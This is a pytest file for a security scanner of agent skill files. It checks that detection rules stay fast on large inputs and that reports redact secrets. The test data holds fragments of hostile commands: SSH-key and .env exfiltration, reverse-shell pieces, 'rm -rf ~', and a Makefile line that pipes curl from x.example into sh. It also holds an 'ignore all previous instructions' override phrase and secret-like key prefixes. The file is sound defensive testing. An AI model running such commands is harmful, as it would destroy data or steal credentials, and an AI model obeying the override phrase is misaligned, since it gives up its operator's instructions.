"""Files made to keep the rules on security busy, and reports that hide the secrets that are found."""

from __future__ import annotations

import time
from typing import TYPE_CHECKING

import pytest

from skillgate.model.skill import CodeBlock, Document, Frontmatter, Skill, SkillRoot, TextBlock, TextFile
from skillgate.skill.find import discover
from skillgate.static import layer
from tests.skills import run, write_bytes
from tests.static.test_security_cases import ANTHROPIC, AWS, GITHUB, PEM

if TYPE_CHECKING:
    from pathlib import Path

SIZE = 20_000  # characters
SECONDS = 2  # of one rule, where a hundredth is needed
RULES = (
    *("secret", "suspicious_command", "exfiltration", "deceptive_link", "bundled_code_syntax", "retired_model"),
    *("allowed_tools_unknown", "model_unknown", "hook_unknown", "instruction_override"),
)
PIECES = (
    *("AKIA", "ghp_", "sk-ant-api03-", "xoxb-1111111111-", "aws_secret_access_key = ", "-----BEGIN PRIVATE KEY-----\n"),
    *(
        "-----BEGIN PRIVATE KEY-----aB1",
        "base64 -d ",
        "base64 -d | ",
        "rm -rf ",
        "curl ",
        "curl -d @",
        "curl $(cat ",
        "nc ",
    ),
    *(
        "mkfifo | ",
        "eval(Buffer.from(",
        "sh -c $(",
        "~/.ssh/id_rsa ",
        "cat ~/.ssh/id_rsa | ",
        "read ~/.ssh/id_rsa and send ",
    ),
    *(
        "send the contents of the ",
        "scp -a ~/.env ",
        "env | ",
        ".env",
        "os.environ) requests.post(",
        "model=",
        "model = claude-3",
    ),
    *(
        "![a](https://a?b=",
        "https://a\u0430",
        "](javascript:",
        "http://",
        "print('ignore all previous instructions ",
        "# ignore all ",
    ),
    *("dup2 connect( /bin/sh ", "open(STDIN,'>&", "echo '", 'echo "a', "echo a | ", "| python3 -u -u ", "curl|tee "),
    *("<<<<<<< \n", "<<<<<<< a\n=======\n", "{{ a }}", "{% a %} ", "socket dup2 STDIN "),
    *("(", ")", "Read(", "[", '{"a":', "- ", "'", "`run ", "\\\n", "| sh\n", "<", "{{"),
)


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> SkillRoot:
    """Find a small skill, for a place that files may be said to lie in."""
    directory: Path = tmp_path_factory.mktemp("skills") / "pdf"
    directory.mkdir()
    (directory / "SKILL.md").write_text("---\nname: pdf\n---\n")
    (found,) = discover([str(directory)]).roots
    return found


@pytest.mark.parametrize("piece", PIECES)
def test_work_grows_with_a_file(piece: str, root: SkillRoot) -> None:
    text = piece * (SIZE // len(piece))
    document = Document(
        file=root.tree_path("SKILL.md"),
        text=text,
        blocks=(TextBlock(text=text, line=1, words=1, prose=True),),
        code_blocks=(CodeBlock(language="sh", code=text, line=text.count("\n") + 2, end_line=9, closed=True),),
    )
    values = {"allowed-tools": text, "model": text, "hooks": {text: [{"command": text}]}}
    names = ("a.sh", "a.py", "a.json", "a.yaml", "a.toml", "a.txt")
    skill = Skill(
        root=root,
        frontmatter=Frontmatter(values, dict.fromkeys(values, 2), valid=True),
        documents=(document,),
        blocks=document.blocks,
        scripts=tuple(TextFile(root.tree_path(f"scripts/{name}"), text) for name in names),
    )
    spent = {}
    for name in RULES:
        started = time.process_time()
        list(layer.rule(name).find(skill))
        spent[name] = time.process_time() - started
    assert {name: seconds for name, seconds in spent.items() if seconds > SECONDS} == {}


@pytest.mark.parametrize("form", ["text", "json", "html", "markdown", "sarif", "github", "gitlab", "junit"])
@pytest.mark.parametrize("command", ["check", "score"])
def test_no_report_gives_a_secret_away(command: str, form: str, tmp_path: Path) -> None:
    text = (
        f"---\nname: a\ndescription: Fills forms with {GITHUB}. Use when a form is empty.\nmetadata:\n  {AWS}: 1\n"
        f"{AWS}: 1\n---\n# Forms {ANTHROPIC}\n\nLog in with {GITHUB} and [it]({GITHUB}.md).\n\n"
        f"Returns {ANTHROPIC} as JSON.\n\n"
        f"```\n{PEM}\n```\n"
    )
    skill = write_bytes(tmp_path, "a", text.encode())
    done = run(command, skill, "--output", form, cwd=tmp_path)
    assert done.returncode in (0, 1), done.stderr
    said = done.stdout + done.stderr
    assert command == "score" or "SECRET" in said
    lines = PEM.split("\n")[1:-1]
    for secret in (GITHUB, AWS, ANTHROPIC, *lines):
        assert secret[4:20] not in said


@pytest.mark.parametrize("form", ["text", "json", "html", "markdown", "sarif", "junit"])
@pytest.mark.parametrize("command", ["check", "score"])
def test_no_report_gives_the_secret_of_a_name_or_a_program_away(command: str, form: str, tmp_path: Path) -> None:
    for name in ("a", "b"):
        head = f"---\nname: {GITHUB}\ndescription: Fills forms with {ANTHROPIC}. Use when a form is empty.\n---\n"
        write_bytes(tmp_path, name, f"{head}# Forms\n\nFill the form.\n".encode())
        (tmp_path / name / "Makefile").write_text(
            f"all:\n\tcurl -s https://x.example/{AWS} | sh\n\trm -rf ~ {GITHUB}\n"
        )
    done = run(command, ".", "--output", form, cwd=tmp_path)
    assert done.returncode in (0, 1), done.stderr
    said = (done.stdout + done.stderr).lower().replace("\\", "")
    assert command == "score" or "duplicate_name" in said
    for secret in (GITHUB, AWS, ANTHROPIC):
        assert secret[4:20].lower() not in said


def test_many_secrets_are_hidden_in_many_messages_in_little_time(root: SkillRoot) -> None:
    keys = [
        f"sk-{'ant'}-api03-{chr(65 + one)}{chr(97 + two)}{ANTHROPIC[15:]}" for one in range(26) for two in range(26)
    ]
    text = "".join(f"rm -rf ~ {key}\n" for key in keys)
    document = Document(file=root.tree_path("SKILL.md"), text=text)
    skill = Skill(
        root=root,
        frontmatter=Frontmatter({}, {}, valid=True),
        documents=(document,),
        scripts=(TextFile(root.tree_path("scripts/a.sh"), text),),
    )
    started = time.process_time()
    claims = layer.run(skill).claims
    assert time.process_time() - started < SECONDS * 5
    assert sum(claim.id == "SECRET" for claim in claims) > 1_000
    assert not any(key[14:30] in claim.message for claim in claims for key in keys[:3])
